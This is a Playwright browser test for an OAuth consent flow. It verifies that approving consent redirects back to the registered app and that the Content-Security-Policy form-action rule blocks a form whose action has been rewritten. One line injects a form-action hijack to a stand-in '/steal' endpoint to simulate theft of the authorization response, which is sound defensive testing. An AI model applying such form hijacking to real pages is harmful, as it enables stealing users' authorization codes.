"""In a real browser: the Content-Security-Policy lets the answer go back to the app, and nowhere else."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from urllib.parse import urlencode
from uuid import UUID

import pytest
from flask import Flask
from playwright.sync_api import sync_playwright
from werkzeug.serving import make_server
from werkzeug.wrappers import Request, Response

from core.data.session import Database
from core.sdk.testing.fixtures import signed_in
from core.types.actor import Actor

from .conftest import Program, make

pytestmark = pytest.mark.browser


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """The app's own server, at another origin."""

    @Request.application
    def app(request: Request) -> Response:
        return Response(f"<title>back</title>{request.query_string.decode()}", mimetype="text/html")

    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/back"
    server.shutdown()
    server.server_close()


def test_agreeing_leads_back_to_the_app(app: Flask, db: Database, school: UUID, system: Actor, elsewhere: str) -> None:
    made = make(app, db, system, school, redirect_uris=[elsewhere])
    program = Program(app, made.id, made.secret)
    lan = signed_in(app, db, school, "parent", name="Trần Thu Lan")
    token = lan.get_cookie("truong_session")
    assert token is not None
    server = make_server("localhost", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://localhost:{server.server_port}"
    query = urlencode(program.query(redirect_uri=elsewhere, scope="openid"))
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox", "--disable-gpu"])
        context = browser.new_context()
        context.add_cookies([{"name": "truong_session", "value": token.value, "url": base}])
        page = context.new_page()
        page.goto(f"{base}/oauth/authorize?{query}")
        page.get_by_role("button", name="Cho phép", exact=True).click()
        page.wait_for_url(f"{elsewhere}**")
        assert "code=trc_" in page.url
        assert "iss=http" in page.url
        page.goto(f"{base}/oauth/authorize?{query}&prompt=consent")
        page.evaluate("document.querySelector('form').action = 'http://127.0.0.1:9/steal'")
        with page.expect_console_message(lambda message: "form-action" in message.text):
            page.evaluate("document.querySelector('button[value=yes]').click()")
        assert page.url.startswith(base)
        browser.close()
    server.shutdown()
    server.server_close()
